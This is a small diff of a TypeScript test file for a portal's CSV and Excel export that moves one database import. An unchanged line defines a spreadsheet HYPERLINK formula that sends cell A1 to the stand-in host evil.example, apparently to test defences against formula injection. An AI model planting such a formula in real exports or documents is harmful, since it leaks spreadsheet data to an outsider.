@@ -13,7 +13,6 @@ import { getTableConfig, PgTable } from 'drizzle-orm/pg-core';
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { MAX_PAGE_ROWS, PortalMeAnswer } from '../../../domain/index';
-import { queryRows } from '../../../server/db/client';
 import * as schema from '../../../server/db/schema/index';
 import { SECRET_COLUMNS } from '../../../server/modules/personal-data/tables';
 import { buildCsv, parseCsv } from '../../../src/engine/list/csv';
@@ -21,6 +20,7 @@ import { show } from '../support/api-helpers';
 import { DATABASE_KINDS, startApp, type TestApp } from '../support/harness';
 import { callerOf, created, fresh, lessonBody, makeLesson, makeWorld, type Row, type World } from '../support/lessons-helpers';
 import { addSignIn, GUARDIAN_PASSWORD } from '../support/portal-helpers';
+import { queryRows } from '../../../server/db/statements';
 
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Πατήστε εδώ")';
 const SEALED = 'sealed-subscription-key-for-the-test';
